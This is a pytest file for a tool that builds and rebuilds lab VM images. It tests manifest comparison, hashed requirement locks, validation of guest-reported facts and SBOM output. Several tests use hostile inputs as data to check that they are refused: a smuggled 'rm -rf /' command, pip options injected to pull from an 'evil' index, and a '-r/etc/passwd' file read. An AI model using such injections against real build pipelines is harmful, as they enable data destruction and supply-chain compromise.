"""Manifests: comparing two, the request a rebuild stands for, the lock it installs, the guest
facts it accepts, the image tag, and the CycloneDX SBOM checked by the library's validator."""

from __future__ import annotations

import json
import runpy
import tomllib
from datetime import UTC, datetime
from pathlib import Path

import pytest
from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator

from shared.manifest.compare import diff
from shared.manifest.document import GuestFacts, environment
from shared.manifest.rebuild import (
    RebuildRequest,
    UnsafeLockEntry,
    locked_requirements,
    pinned_blobs,
    request_from_manifest,
)
from shared.manifest.sbom import sbom_json
from shared.manifest.tags import MANIFEST_TAG, manifest_digest_from_tags, manifest_tags
from shared.models.parse import parse_build_request
from shared.remote.reports import BadGuestReport, parse_guest_json
from shared.version import LABIMAGE_VERSION
from tests.manifest_samples import manifest_of

ROOT = Path(__file__).resolve().parents[2]
BLOB = {"name": "a/b.csv", "size": 3, "md5": "x" * 22 + "==", "etag": '"0x1"', "sha256": "f" * 64}
DIGEST = "1" * 64


def test_manifests_of_two_builds_of_the_same_environment_are_equal() -> None:
    a, b = manifest_of("b-one", BLOB), manifest_of("b-two", BLOB)
    b["collected_at"] = "2027-01-01T00:00:00+00:00"
    b["request"] = {**b["request"], "name": "other"}
    assert a != b and diff(environment(a), environment(b)) == []


def test_diff_names_packages_added_removed_upgraded_blobs_and_commits() -> None:
    a = manifest_of("b-one", BLOB)
    b = manifest_of("b-one", {**BLOB, "sha256": "e" * 64}, numpy="1.25.0")
    b["python_packages"].append({"name": "scipy", "version": "1.14.1", "hashes": []})
    b["os_packages"] = []
    b["repositories"][0]["commit"] = "9" * 40
    b["base_image"] = {**b["base_image"], "exact_version": "24.04.202502010"}
    found = {(c["kind"], c["name"], c["change"]) for c in diff(a, b)}
    assert found == {
        ("python_package", "numpy", "downgraded"),
        ("python_package", "scipy", "added"),
        ("os_package", "bash", "removed"),
        ("data_blob", "ooi-data/a/b.csv", "changed"),
        ("repository", a["repositories"][0]["url"], "moved"),
        ("base_image", "base_image", "changed"),
    }


def test_a_rebuild_request_pins_image_commits_and_blobs_and_still_validates() -> None:
    manifest = manifest_of("b-one", BLOB)
    when = datetime(2026, 11, 28, 1, 2, 3, tzinfo=UTC)
    ask = RebuildRequest(from_manifest=DIGEST)
    request, problems = request_from_manifest(manifest, ask, when)
    assert problems == [] and request is not None
    parsed = parse_build_request(json.dumps(request).encode())  # the API's own validation
    assert parsed.vm.image.version == "24.04.202501010"
    assert parsed.repositories[0].ref == "c" * 40
    assert parsed.data[0].prefix == "AT4212/" and parsed.data[0].blobs is None
    assert parsed.image.name == "jupyter-ooi-ubuntu2404-r20261128010203"
    assert parsed.reproduce is not None and parsed.reproduce.from_manifest == DIGEST

    latest, _ = request_from_manifest(manifest, RebuildRequest(from_manifest=DIGEST, data="latest"))
    assert latest is not None and latest["reproduce"]["data"] == "latest"
    assert pinned_blobs(manifest, 0) == [{"name": "a/b.csv", "sha256": "f" * 64}]


def test_a_conda_environment_is_refused_for_an_exact_rebuild() -> None:
    manifest = manifest_of("b-one", BLOB)
    manifest["python"]["installer"] = "conda"
    request, problems = request_from_manifest(manifest, RebuildRequest(from_manifest=DIGEST))
    assert request is None and problems[0].field == "from_manifest"


def test_the_lock_pins_every_package_with_hashes_only_when_all_have_some() -> None:
    manifest = manifest_of("b-one", BLOB)
    lock, hashed = locked_requirements(manifest)
    assert hashed and lock.splitlines() == [
        "numpy==1.26.4 --hash=sha256:" + "a" * 64,
        "pandas==2.2.3 --hash=sha256:" + "b" * 64,
    ]
    manifest["python_packages"][1]["hashes"] = []
    lock, hashed = locked_requirements(manifest)
    assert not hashed and lock == "numpy==1.26.4\npandas==2.2.3\n"


def test_guest_facts_are_bounded() -> None:
    good = {"python_version": "3.11.9", "packages": [{"name": "x", "version": "1"}]}
    assert parse_guest_json(GuestFacts, json.dumps(good), "facts").packages[0].name == "x"
    for bad in (
        {"packages": [{"name": "", "version": "1"}]},
        {"os_id": "ubuntu; rm -rf /"},
        {"commits": {"/datadrive/notebooks": "main; echo"}},
    ):
        with pytest.raises(BadGuestReport):
            parse_guest_json(GuestFacts, json.dumps(bad), "facts")


INJECTED_VERSION = "1.26.4\n--extra-index-url https://evil\nevilpkg @ https://evil/e.tar.gz"


@pytest.mark.parametrize(
    "package",
    [
        {"name": "numpy", "version": INJECTED_VERSION},
        {"name": "numpy", "version": "1.26.4 --index-url=https://evil"},
        {"name": "numpy", "version": "latest"},
        {"name": "numpy\n--extra-index-url https://evil", "version": "1.26.4"},
        {"name": "-r/etc/passwd", "version": "1"},
        {"name": "numpy", "version": "1.26.4", "hashes": ["sha256:" + "a" * 64 + " --x"]},
        {"name": "numpy", "version": "1.26.4", "hashes": ["md5:" + "a" * 32]},
    ],
)
def test_guest_facts_with_a_package_that_is_not_a_plain_pin_are_refused(
    package: dict[str, object],
) -> None:
    with pytest.raises(BadGuestReport, match=r"packages\.0\.(name|version|hashes)"):
        parse_guest_json(GuestFacts, json.dumps({"packages": [package]}), "facts")


def test_real_package_names_versions_and_hashes_are_accepted() -> None:
    packages = [
        {"name": "zope.interface", "version": "6.4.post2"},
        {"name": "typing_extensions", "version": "4.12.2"},
        {"name": "torch", "version": "2.3.1+cpu", "hashes": ["sha256:" + "0" * 64]},
        {"name": "A", "version": "1!2.0rc1.dev3"},
    ]
    facts = parse_guest_json(GuestFacts, json.dumps({"packages": packages}), "facts")
    assert [p.version for p in facts.packages] == [
        "6.4.post2",
        "4.12.2",
        "2.3.1+cpu",
        "1!2.0rc1.dev3",
    ]


def test_the_lock_refuses_a_package_that_is_not_a_plain_pin() -> None:
    """A manifest stored before the guest's report was checked still writes no extra lines."""
    manifest = manifest_of("b-one", BLOB)
    manifest["python_packages"][0]["version"] = INJECTED_VERSION
    with pytest.raises(UnsafeLockEntry, match=r"python_packages\[0\]\.version"):
        locked_requirements(manifest)
    manifest = manifest_of("b-one", BLOB)
    manifest["python_packages"][1]["hashes"] = ["sha256:x\n--extra-index-url https://evil"]
    with pytest.raises(UnsafeLockEntry, match="hashes"):
        locked_requirements(manifest)


def test_the_guest_script_reads_uv_hash_lines() -> None:
    script = runpy.run_path(str(ROOT / "shared/remote/scripts/collect_guest.py"))
    text = "Numpy==1.26.4 \\\n    --hash=sha256:aa \\\n    --hash=sha256:bb\nsix==1.16.0 --hash=sha256:cc\n"
    assert script["parse_hashes"](text) == {
        "numpy": ["sha256:aa", "sha256:bb"],
        "six": ["sha256:cc"],
    }


def test_the_manifest_tag_round_trips_and_a_malformed_one_is_ignored() -> None:
    assert manifest_digest_from_tags({"Labimage-Manifest": DIGEST, "owner": "a"}) == DIGEST
    assert manifest_tags(DIGEST) == {MANIFEST_TAG: DIGEST} and manifest_tags(None) == {}
    assert manifest_digest_from_tags({MANIFEST_TAG: "not-a-digest"}) is None
    assert manifest_digest_from_tags(None) is None


def test_the_sbom_validates_against_the_cyclonedx_schema() -> None:
    manifest = manifest_of("b-one", BLOB)
    manifest["os_packages"].append({"name": "libc6", "version": "2.39-0ubuntu8", "arch": "i386"})
    text = sbom_json(manifest)
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(text) is None
    purls = {c["purl"] for c in json.loads(text)["components"]}
    assert "pkg:pypi/pandas@2.2.3" in purls
    assert "pkg:deb/ubuntu/libc6@2.39-0ubuntu8?arch=i386" in purls


def test_the_version_recorded_is_the_project_version() -> None:
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    assert project["version"] == LABIMAGE_VERSION
